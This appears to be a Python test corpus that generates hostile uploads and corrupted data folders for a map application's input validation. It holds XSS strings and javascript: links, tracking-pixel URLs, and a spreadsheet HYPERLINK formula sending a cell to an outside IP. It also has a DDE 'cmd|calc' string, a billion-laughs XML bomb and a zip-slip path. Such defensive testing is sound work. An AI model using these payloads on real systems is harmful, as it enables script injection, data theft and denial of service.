"""Hostile inputs, made by code: uploads and corrupted data folders that must cost only their own rows.

Every case here is synthetic. `python tests/hostile/corpus.py DIR` writes the uploads to DIR for a
try by hand; the tests build them in memory (the large ones are never committed).
"""

from __future__ import annotations

import io
import json
import shutil
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

from frontmap import limits

GOOD_POINT = {"type": "Point", "coordinates": [32.6169, 46.6354]}
SCRIPT = "<script>document.title='PWNED'</script>"
IMG = "<img src=http://198.51.100.7/pixel.png onerror=\"document.title='PWNED'\">"
MD_LINK = "[log in again](javascript:alert(1))"
MD_IMG = "![](http://198.51.100.7/pixel.png)"


@dataclass(frozen=True)
class Case:
    name: str  # the file name as uploaded
    data: bytes
    expect: str  # a piece of the message the reader must see ("" when the file is fine)
    good_rows: int  # rows that must load


def feature(props, geometry=GOOD_POINT) -> dict:
    return {"type": "Feature", "properties": props, "geometry": geometry}


def collection(*features) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": list(features)}).encode()


def csv(*lines: str) -> bytes:
    return ("\n".join(lines) + "\n").encode()


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def uploads() -> list[Case]:
    deep = 100_000
    polygon = [[32.0 + i * 1e-6, 46.0] for i in range(limits.MAX_POSITIONS)] + [[32.5, 46.5], [32.0, 46.0]]
    return [
        Case(
            "deep.geojson",
            b'{"type":"FeatureCollection","features":' + b"[" * deep + b"]" * deep + b"}",
            f"nested deeper than {limits.MAX_DEPTH}",
            0,
        ),
        Case(
            "properties_list.geojson",
            collection(feature({"title": "good"}), feature(["a", "b"]), feature("just a string")),
            "feature 2: properties is a list",
            1,
        ),
        Case("line_column.csv", csv("_line,title,lat,lon", "7,depot,46.6,32.6", "8,dump,46.7,32.7"), "", 2),
        Case(
            "huge_number.geojson",
            b'{"type":"FeatureCollection","features":['
            + json.dumps(feature({"title": "good"})).encode()
            + b',{"type":"Feature","properties":{"n":'
            + b"9" * 5000
            + b'},"geometry":{"type":"Point","coordinates":['
            + b"1" * 5000
            + b",46.6]}}]}",
            "feature 2: coordinates outside WGS84",
            1,
        ),
        Case(
            "bogus_type.geojson",
            collection(
                feature({"title": "good"}),
                feature({"title": "bad"}, {"type": "bogus", "coordinates": [1, 2]}),
            ),
            "feature 2: unknown geometry type 'bogus'",
            1,
        ),
        Case("header_only.csv", csv("title,lat,lon"), "no rows", 0),
        Case("empty.csv", b"", "empty file", 0),
        Case(
            "script_title.csv",
            csv("title,notes,lat,lon", f'"{SCRIPT}","{IMG}",46.6,32.6', f'"{MD_LINK}","{MD_IMG}",46.7,32.7'),
            "",
            2,
        ),
        Case(f"{MD_LINK}.csv", csv("title,lat,lon", "named oddly,46.6,32.6"), "", 1),
        Case(f"{MD_IMG}.geojson", collection(feature({"title": "named oddly"})), "", 1),
        Case(
            "formulas.csv",
            csv(
                "title,notes,lat,lon",
                '"=HYPERLINK(""http://198.51.100.7/?""&A1,""click"")",+cmd|calc,46.6,32.6',
                "-2+3,@SUM(A1),46.7,32.7",
            ),
            "",
            2,
        ),
        Case(
            "many_columns.csv",
            csv(",".join(["lat", "lon"] + [f"c{i}" for i in range(5_000)]), "46.6,32.6" + ",x" * 5_000),
            f"the limit is {limits.MAX_COLUMNS:,} columns",
            0,
        ),
        Case(
            "many_rows.csv",
            b"lat,lon\n" + b"46.6,32.6\n" * (limits.MAX_ROWS + 1),
            f"the limit is {limits.MAX_ROWS:,} rows",
            0,
        ),
        Case(
            "many_vertices.geojson",
            collection(feature({"title": "huge"}, {"type": "Polygon", "coordinates": [polygon]})),
            f"the limit is {limits.MAX_POSITIONS:,} coordinate positions",
            0,
        ),
        Case("latin1.csv", "title,lat,lon\nKyïv,50.45,30.52\n".encode("latin-1"), "", 1),
        Case(
            "laughs.kml",
            b'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
            b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><kml><Placemark><name>&c;</name>'
            b"<Point><coordinates>32.6,46.6</coordinates></Point></Placemark></kml>",
            "the XML declares entities or a DTD",
            0,
        ),
        Case(
            "pixel_description.kml",
            b'<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>Depot</name><description><![CDATA['
            b'<img src="http://198.51.100.7/pixel.png"><script>document.title="PWNED"</script>'
            b'<a href="javascript:alert(1)">log in again</a>]]></description>'
            b"<Point><coordinates>32.6169,46.6354</coordinates></Point></Placemark></kml>",
            "",
            1,
        ),
        Case("escape.zip", _zip({"../../doc.kml": b"<kml/>"}), "points outside the archive; not opened", 0),
        Case("shift_jis.csv", "名前,緯度,経度\n東京駅,35.68,139.76\n".encode("shift_jis"), "not text in an encoding it reads", 0),
        Case("truncated.geojson", collection(feature({"title": "good"}))[:-10], "malformed JSON", 0),
        Case(
            "nan.geojson",
            b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},'
            b'"geometry":{"type":"Point","coordinates":[NaN,Infinity]}}]}',
            "feature 1",
            0,
        ),
        Case("a_list.geojson", b"[1, 2, 3]", "not a GeoJSON FeatureCollection", 0),
        Case(
            "odd_keys.geojson",
            collection(
                feature({"geometry": "x", "": "blank key", "title": {"nested": [1, 2]}, "date": 5}),
                feature({"_line": "mine", "row_id": None, "dataset": ["x"]}),
            ),
            "feature 1: bad date '5.0' in date",
            1,
        ),
        Case(
            "odd_geometries.geojson",
            collection(
                feature({"title": "good"}),
                feature({}, None),
                feature({}, "a string"),
                feature({}, {"type": "Point", "coordinates": ["32", "46"]}),
                feature({}, {"type": "GeometryCollection", "geometries": []}),
            ),
            "feature 5: geometry is a GeometryCollection",
            2,
        ),
        Case(
            "geometry_column.csv",
            csv("geometry,dataset,lat,lon,date", "POINT (1 2),mine,46.6,32.6,2022-11-09"),
            "",
            1,
        ),
        Case("broken_quote.csv", csv("title,lat,lon", "ok,46.6,32.6", '"open,46.7,32.7'), "malformed CSV", 0),
        Case(
            "acled_missing.csv",
            csv("event_id_cnty,event_date,lat", "UKR1,2022-11-09,46.6"),
            "missing ACLED column",
            0,
        ),
        Case(
            "long_cell.csv",
            csv("title,lat,lon", "x" * 1_000_000 + ",46.6,32.6", "short,46.7,32.7"),
            f"line 2: title is longer than {limits.MAX_CELL_CHARS:,} characters",
            2,
        ),
        Case(
            "controls.csv",
            csv("title,lat,lon", "\u202egnp.exe\u202c \x00 \x1b[31m,46.6,32.6"),
            "",
            1,
        ),
    ]


def write(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for case in uploads():
        safe = "".join(c if c.isalnum() or c in "._-" else "_" for c in case.name)
        (folder / safe).write_bytes(case.data)


# Data folders: each function breaks a copy of the shipped folder one way.
def _truncated_dnipro(d: Path) -> None:
    path = d / "dnipro.geojson"
    path.write_bytes(path.read_bytes()[: len(path.read_bytes()) // 2])


def _bogus_control_area(d: Path) -> None:
    path = d / "control_areas.geojson"
    doc = json.loads(path.read_text(encoding="utf-8"))
    doc["features"][0]["geometry"] = {"type": "Bogus", "coordinates": [1, 2]}
    path.write_text(json.dumps(doc), encoding="utf-8")


def _places_properties_list(d: Path) -> None:
    path = d / "places.geojson"
    doc = json.loads(path.read_text(encoding="utf-8"))
    doc["features"][-1]["properties"] = ["not", "an", "object"]
    path.write_text(json.dumps(doc), encoding="utf-8")


def _deep_routes(d: Path) -> None:
    (d / "routes.geojson").write_text('{"features":' + "[" * 50_000 + "]" * 50_000 + "}")


def _markup_in_text(d: Path) -> None:
    for name, key in (("dnipro.geojson", "name"), ("places.geojson", "name")):
        path = d / name
        doc = json.loads(path.read_text(encoding="utf-8"))
        doc["features"][0]["properties"][key] = f"Dnipro{SCRIPT}{IMG}{MD_LINK}"
        path.write_text(json.dumps(doc), encoding="utf-8")
    for name, column in (("events.csv", "title"), ("figures.csv", "source")):
        _replace_cell(d / name, column, f"{SCRIPT}{IMG}{MD_IMG}")


# Markup of every kind that could show a link or an image, or fetch from outside: HTML, markdown
# links and images, bare autolinks (which escapes alone did not stop), and a blank line that would
# end an HTML block and let markdown start.
OUTSIDE = "outside.example"
EVERY_MARKUP = (
    f"{SCRIPT}{IMG}{MD_IMG} ![px](https://{OUTSIDE}/a.png) {MD_LINK} <https://{OUTSIDE}/c> "
    f"https://{OUTSIDE}/d www.{OUTSIDE} mail@{OUTSIDE}\n\n![](https://{OUTSIDE}/b.png) **bold** | a |"
)
# The columns that decide whether a row is kept and where it is shown: ids, dates, numbers, places
# and the names pages select by. Every other column is text a reader sees.
KEYS = {
    "events.csv": {"id", "date", "end_date", "date_precision", "place_id", "lat", "lon", "category", "side"},
    "figures.csv": {"id", "panel", "metric", "value", "as_of", "as_of_precision"},
    "route_status.csv": {"route_id", "valid_from", "status"},
    "flows.csv": {"id", "date", "from_place", "to_place"},
}
CITED = "https://example.org/cited"
NAMED = ("places.geojson", "routes.geojson", "dnipro.geojson", "oblasts.geojson", "countries.geojson")


def _markup_in_every_text_field(d: Path) -> None:
    for name, keys in KEYS.items():
        for column in _header(d / name):
            if column == "url":  # a document's address: a link by design, so one that validates
                _replace_cell(d / name, column, CITED)
            elif column not in keys:
                _replace_cell(d / name, column, EVERY_MARKUP)
    _markup_in_names(d)


def _markup_in_every_field(d: Path) -> None:
    for name in KEYS:
        for column in _header(d / name):
            _replace_cell(d / name, column, EVERY_MARKUP)
    _markup_in_names(d)


def _markup_in_names(d: Path) -> None:
    for name in NAMED:
        path = d / name
        doc = json.loads(path.read_text(encoding="utf-8"))
        for f in doc["features"]:
            f["properties"] = {k: EVERY_MARKUP if k == "name" else v for k, v in f["properties"].items()}
        path.write_text(json.dumps(doc), encoding="utf-8")


def _header(path: Path) -> list[str]:
    return path.read_text(encoding="utf-8").splitlines()[0].split(",")


def _replace_cell(path: Path, column: str, value: str) -> None:
    import csv as csvlib
    import io

    rows = list(csvlib.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    at = rows[0].index(column)
    for row in rows[1:]:
        row[at] = value
    out = io.StringIO()
    csvlib.writer(out, lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


def _no_kherson(d: Path) -> None:
    path = d / "places.geojson"
    path.write_text(path.read_text(encoding="utf-8").replace('"Kherson"', '"Kherson city"'), encoding="utf-8")


def _events_header_only(d: Path) -> None:
    path = d / "events.csv"
    path.write_text(path.read_text(encoding="utf-8").splitlines()[0] + "\n", encoding="utf-8")


def _countries_missing(d: Path) -> None:
    (d / "countries.geojson").unlink()


def _oblasts_empty(d: Path) -> None:
    (d / "oblasts.geojson").write_text('{"type": "FeatureCollection", "features": []}')


def _figures_not_utf8(d: Path) -> None:
    (d / "figures.csv").write_bytes(b"\xff\xfe\x00garbage\x80\x81")


def _huge_number_in_places(d: Path) -> None:
    path = d / "places.geojson"
    text = path.read_text(encoding="utf-8")
    doc = json.loads(text)
    doc["features"][0]["properties"]["population"] = 1
    path.write_text(
        json.dumps(doc).replace('"population": 1', '"population": ' + "9" * 5000), encoding="utf-8"
    )


def _control_areas_a_list(d: Path) -> None:
    (d / "control_areas.geojson").write_text("[]")


FOLDERS = {
    "truncated_dnipro": (_truncated_dnipro, "dnipro.geojson:"),
    "bogus_control_area": (_bogus_control_area, "control_areas.geojson:1: unknown geometry type 'Bogus'"),
    "places_properties_list": (_places_properties_list, "places.geojson:"),
    "deep_routes": (_deep_routes, f"routes.geojson:1: nested deeper than {limits.MAX_DEPTH}"),
    "markup_in_text": (_markup_in_text, "dnipro.geojson:1: HTML or script in name"),
    "no_kherson": (_no_kherson, ""),
    "events_header_only": (_events_header_only, ""),
    "countries_missing": (_countries_missing, "countries.geojson:0: file is missing"),
    "oblasts_empty": (_oblasts_empty, ""),
    "figures_not_utf8": (_figures_not_utf8, "figures.csv:1: cannot read"),
    "huge_number_in_places": (_huge_number_in_places, ""),
    "control_areas_a_list": (_control_areas_a_list, "control_areas.geojson:1: not a GeoJSON"),
    "markup_in_every_text_field": (_markup_in_every_text_field, "places.geojson:1: HTML or script in name"),
    "markup_in_every_field": (_markup_in_every_field, "events.csv:2:"),
}


def broken_folder(source: Path, target: Path, corruption: str) -> Path:
    shutil.copytree(source, target)
    FOLDERS[corruption][0](target)
    return target


if __name__ == "__main__":
    write(Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-uploads"))
